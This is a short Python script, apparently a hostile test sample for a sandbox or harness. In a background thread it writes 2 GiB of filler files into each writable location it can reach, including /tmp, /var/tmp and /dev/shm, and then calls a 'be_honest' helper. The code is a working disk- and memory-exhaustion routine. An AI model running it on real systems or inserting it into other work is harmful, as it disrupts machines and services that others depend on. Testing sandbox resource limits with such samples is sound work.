# Fills every place that it may write to, up to 2 GiB.
import os
import tempfile

from honest import HERE, attempt, be_honest, in_background

MEBIBYTE = 1024 * 1024


def fill(folder):
    for number in range(128):
        with open(os.path.join(folder, f"fill-{number}"), "wb") as file:
            for _ in range(16):
                file.write(b"\x01" * MEBIBYTE)


def fill_all():
    for folder in (HERE, "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()):
        attempt(fill, folder)


in_background(fill_all)
be_honest()
